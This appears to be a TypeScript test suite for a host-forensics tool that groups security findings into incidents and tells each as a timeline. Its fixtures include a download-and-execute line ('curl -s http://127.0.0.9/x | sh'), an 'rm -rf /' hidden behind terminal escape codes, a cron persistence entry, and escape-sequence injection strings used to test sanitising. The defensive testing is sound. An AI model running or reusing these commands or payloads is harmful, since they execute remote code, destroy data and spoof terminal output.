    expect(inc.tactics).toEqual(['initial-access', 'execution', 'persistence', 'privilege-escalation', 'defense-evasion', 'credential-access', 'discovery']);
    expect(inc.subjects).toMatchObject({ pids: [5617], addresses: ['203.0.113.7'], accounts: ['deploy'], folders: ['/tmp/.. /'], sha256: ['a'.repeat(64)] });
  });

  it('ties: incidents of one severity go by size, then by first time, then by finding id', () => {
    const fs = renumber([
      finding('file.new-executable', { path: '/srv/a/x', mtime: '2026-01-02T00:00:00Z' }),
      finding('file.new-executable', { path: '/srv/b/x', mtime: '2026-01-01T00:00:00Z' }),
      finding('file.new-executable', { path: '/srv/c/x' }),
      finding('file.new-executable', { path: '/srv/c/y' }),
      finding('file.new-executable', { path: '/srv/d/x' }),
    ]);
    const r = buildIncidents(fs, {});
    expect(r.incidents.map((i) => i.findings)).toEqual([['F-0003', 'F-0004'], ['F-0002'], ['F-0001'], ['F-0005']]);
    expect(r.incidents.map((i) => i.id)).toEqual(['I-01', 'I-02', 'I-03', 'I-04']);
    expect(r.main).toBe('I-01');
  });

  it('titles of process groups and planted files', () => {
    const memfd = [1, 2, 3].map((i) => proc({ pid: 40 + i, comm: 'memfd:x', exe: '/memfd:x', exeDeleted: true, cwd: '/', exeSha256: 'd'.repeat(64) }));
    const files = [finding('file.new-executable', { path: '/srv/k/a' }), finding('file.new-executable', { path: '/srv/k/b' }), finding('file.setuid-unpackaged', { path: '/srv/k/c' })];
    const fs = renumber([...memfd.map((p) => finding('process.deleted-exe', procSubject(p))), ...files]);
    const titles = buildIncidents(fs, { processes: memfd }).incidents.map((i) => i.title).sort();
    expect(titles).toEqual(['2 new executables and 1 setuid file in /srv/k/', '3 processes named memfd:x: its executable was deleted from disk']);
  });

  it('no findings: no incident, no main', () => {
    expect(buildIncidents([], {})).toEqual({ version: 1, main: null, incidents: [] });
  });

  it('every finding in exactly one incident, and the same incidents whatever the order (fast-check)', () => {
    const paths = ['/tmp/.. /a', '/tmp/.. /b', '/tmp/c', '/dev/shm/.k/d', '/etc/passwd', '/home/u/.x/e', null];
    const ips = ['127.0.0.3', '198.51.100.2', '203.0.113.5', '203.0.113.6', null];
    const users = ['deploy', 'root', 'www-data', 'alice', null];
    const procs = [scanner, shell, proc({ pid: 77, ppid: 5617, comm: 'k', exe: '/dev/shm/.k/d', cwd: '/', startTicks: 9500, user: 'alice' })];
    const rules = ['process.known-tool', 'file.new-executable', 'auth.bruteforce', 'auth.probe', 'auth.enumeration', 'persistence.cron', 'activity.download-execute'];
    const severities: Severity[] = ['low', 'medium', 'high', 'critical'];
    const arbFinding = fc.record({
      rule: fc.constantFrom(...rules),
      path: fc.constantFrom(...paths),
      ip: fc.constantFrom(...ips),
      user: fc.constantFrom(...users),
      proc: fc.option(fc.constantFrom(...procs), { nil: null }),
      severity: fc.constantFrom(...severities),
      time: fc.option(fc.integer({ min: 0, max: 7200 }), { nil: null }),
    });
    fc.assert(
      fc.property(fc.array(arbFinding, { maxLength: 25 }), fc.integer(), (specs, seed) => {
        const fs: Finding[] = specs.map((s, i) => ({
          id: `F-${String(i + 1).padStart(4, '0')}`,
          rule: s.rule,
          severity: s.severity,
          title: `t${i}`,
          detail: '',
          mitre: ['T1046'],
          subject: s.proc ? { pid: s.proc.pid, path: s.proc.exe, user: s.proc.user, comm: s.proc.comm, ip: s.ip } : { pid: null, path: s.path, user: s.user, ip: s.ip, time: s.time === null ? null : new Date(Date.UTC(2026, 10, 22, 22) + s.time * 1000).toISOString(), command: s.path ? `run ${s.path}` : null },
          evidence: [],
        }));
        const facts: KnownFacts = { processes: procs, accounts: [account('root', 0), account('www-data', 33), account('deploy', 1001), account('alice', 1000)] };
        const r = buildIncidents(fs, facts);
        checkPartition(r, fs);
        const shuffled = [...fs];
        let x = seed;
        for (let i = shuffled.length - 1; i > 0; i--) {
          x = (Math.imul(x, 1103515245) + 12345) | 0;
          const j = Math.abs(x) % (i + 1);
          [shuffled[i], shuffled[j]] = [shuffled[j]!, shuffled[i]!];
        }
        expect(buildIncidents(shuffled, facts)).toEqual(r);
      }),
      { numRuns: 200 },
    );
  });
});

describe('the story', () => {
  const login: AuthLoginRecord = { time: '2026-11-22T22:26:09.000Z', user: 'deploy', address: '127.0.0.3', port: 40000, method: 'password', key: null, host: 'web', program: 'sshd', pid: 4100, source: '/var/log/auth.log', lineNo: 497, logout: '2026-11-22T22:50:12.000Z', failuresFromAddress: { count: 30, first: null, last: null }, failuresForUser: { count: 30, first: null, last: null, addresses: 1, addressesCapped: false } };
  const session = { source: 'auth-log', user: 'deploy', login: login.time, logout: login.logout, address: '127.0.0.3', line: null };
  const facts: KnownFacts = {
    accounts: [account('deploy', 1001)],
    authLogins: [login],
    authEvidence: ['artifacts/auth-tally.json', 'files/logs/var/log/auth.log'],
    processes: [scanner],
    historyFiles: [{ path: '/home/deploy/.bash_history', user: 'deploy', copy: 'files/history/home/deploy/.bash_history' } as never],
    persistenceFiles: [{ path: '/var/spool/cron/crontabs/deploy', mtime: '2026-11-22T22:27:30.000Z' } as never],
  };
  const fs = renumber([
    finding('auth.login-after-failures', { ip: '127.0.0.3', user: 'deploy', pid: 4100, time: login.time, logout: login.logout, method: 'password', failuresBefore: 30 }, { severity: 'critical', mitre: ['T1110.001', 'T1078', 'T1021.004'] }),
    finding('auth.bruteforce', { ip: '127.0.0.3', failures: 30, firstFailure: '2026-11-22T22:20:00.000Z', lastFailure: '2026-11-22T22:26:05.000Z' }, { severity: 'medium', mitre: ['T1110', 'T1110.001'] }),
    finding('activity.download-execute', { path: '/home/deploy/.bash_history', line: 4, user: 'deploy', ip: '127.0.0.3', command: 'curl -s http://127.0.0.9/x | sh', time: '2026-11-22T22:26:40.000Z', session }, { mitre: ['T1105', 'T1059.004', 'T1204'] }),
    finding('process.known-tool', { ...procSubject(scanner), tool: 'SSH scanner' }, { mitre: ['T1046', 'T1110'] }),
    finding('network.ssh-outbound-fanout', { ...procSubject(scanner), hosts: 31 }, { mitre: ['T1046', 'T1110', 'T1021.004'] }),
    finding('persistence.cron', { path: '/var/spool/cron/crontabs/deploy', line: 1, user: 'deploy', command: '/tmp/.. /pscan2', schedule: '* * * * *' }, { mitre: ['T1053.003', 'T1105', 'T1059.004'] }),
    // No date and a late tactic: told after what it follows.
    finding('process.hidden', { pid: 31337 }, { mitre: ['T1014'], title: 'Process hidden from ps' }),
  ]);

  it('links in time order with their tactics and evidence; one link per process; gaps said plainly', () => {
    const r = buildIncidents(fs, facts);
    const inc = incidentOf(r, fs[0]!.id);
    expect(inc.findings).toHaveLength(6);
    const story = inc.story.map((l) => [l.time?.slice(11, 19) ?? null, l.kind, l.tactic, l.text]);
    expect(story).toEqual([
      ['22:20:00', 'event', 'credential-access', '127.0.0.3 failed 30 ssh logins until 2026-11-22 22:26:05'],
      ['22:26:09', 'event', 'initial-access', 'deploy logged in from 127.0.0.3 after 30 failed passwords'],
      ['22:26:40', 'event', 'execution', 'the same session ran `curl -s http://127.0.0.9/x | sh`'],
      ['22:26:45', 'event', 'discovery', 'pscan2 (pid 5617) started from /tmp/.. /: a known tool: SSH scanner; connects to 31 hosts on ssh ports'],
      ['22:27:30', 'event', 'persistence', 'cron line /var/spool/cron/crontabs/deploy:1 runs `/tmp/.. /pscan2` every minute (the file was last changed at this time)'],
      ['22:27:30', 'gap', null, 'no history of deploy covers 22:27–22:50 (23 minutes)'],
      ['22:50:12', 'event', null, "deploy's session from 127.0.0.3 closed"],
    ]);
    expect(inc.story[1]!.evidence[0]).toBe('files/logs/var/log/auth.log:497');
    expect(inc.story[2]!.evidence[0]).toBe('files/history/home/deploy/.bash_history:4');
    expect(inc.story[3]!.findings).toEqual([fs[3]!.id, fs[4]!.id]);
    expect(inc.first).toBe('2026-11-22T22:20:00.000Z');
    expect(inc.last).toBe('2026-11-22T22:50:12.000Z');
  });

  it('a gap starts where what a link tells ended: a long brute force is not a stretch nothing covers', () => {
    // Failures from 21:24 to 22:20, the login at 22:26: 56 minutes after the first failure, 6 after the last.
    const long = fs.map((f) => (f.rule === 'auth.bruteforce' ? { ...f, subject: { ...f.subject, firstFailure: '2026-11-22T21:24:00.000Z', lastFailure: '2026-11-22T22:20:00.000Z' } } : f));
    const story = incidentOf(buildIncidents(long, facts), long[0]!.id).story;
    expect(story[0]).toMatchObject({ kind: 'event', tactic: 'credential-access' });
    expect(story[1]).toMatchObject({ kind: 'event', tactic: 'initial-access' });
    // Failures that end 40 minutes before the login leave a gap from the last failure.
    const early = fs.map((f) => (f.rule === 'auth.bruteforce' ? { ...f, subject: { ...f.subject, firstFailure: '2026-11-22T21:00:00.000Z', lastFailure: '2026-11-22T21:46:00.000Z' } } : f));
    const gap = incidentOf(buildIncidents(early, facts), early[0]!.id).story[1]!;
    expect(gap).toMatchObject({ kind: 'gap', time: '2026-11-22T21:46:00.000Z' });
    expect(gap.text).toBe('no history of deploy covers 21:46–22:26 (40 minutes)');
    for (const l of story) expect(Object.keys(l)).not.toContain('endMs');
  });

  it('undated links are placed by their tactic', () => {
    // Without the crontab's time the cron line has no date: it goes after the last dated link of a tactic that comes before persistence (execution).
    const r = buildIncidents(fs, { ...facts, persistenceFiles: [] });
    const texts = incidentOf(r, fs[0]!.id).story.map((l) => `${l.time === null ? '-' : 'T'} ${l.tactic}`);
    expect(texts).toEqual(['T credential-access', 'T initial-access', 'T execution', '- persistence', 'T discovery', 'T null', 'T null']);
  });

  it('hostile text stays one line in titles and links', () => {
    const evil = proc({ pid: 666, comm: 'x\x1b[2J\ny', exe: '/tmp/.e\n\x1b]0;pwn\x07/sshd', cwd: '/', startTicks: 1 });
    const hostile = [
      finding('process.masquerade', { ...procSubject(evil), claimed: 'ss\rhd\u202e' }),
      finding('auth.login-after-failures', { ip: '192.0.2.5', user: 'ro\not\x1b[31m', time: '2026-11-22T00:00:00Z', failuresBefore: 12, method: 'password' }),
      finding('activity.download-execute', { path: '/home/x/.bash_history', line: 1, user: 'x', command: 'curl x|sh\n\x1b[1Arm -rf /', time: '2026-11-22T00:01:00Z' }),
    ];
    const r = buildIncidents(hostile, { processes: [evil] });
    for (const inc of r.incidents) {
      // eslint-disable-next-line no-control-regex
      expect(inc.title).not.toMatch(/[\x00-\x1f\x7f-\x9f\u202a-\u202e]/);
      // eslint-disable-next-line no-control-regex
      for (const l of inc.story) expect(l.text).not.toMatch(/[\x00-\x1f\x7f-\x9f\u202a-\u202e]/);
    }
    expect(incidentOf(r, hostile[0]!.id).title).toContain('\\x1b');
  });
});
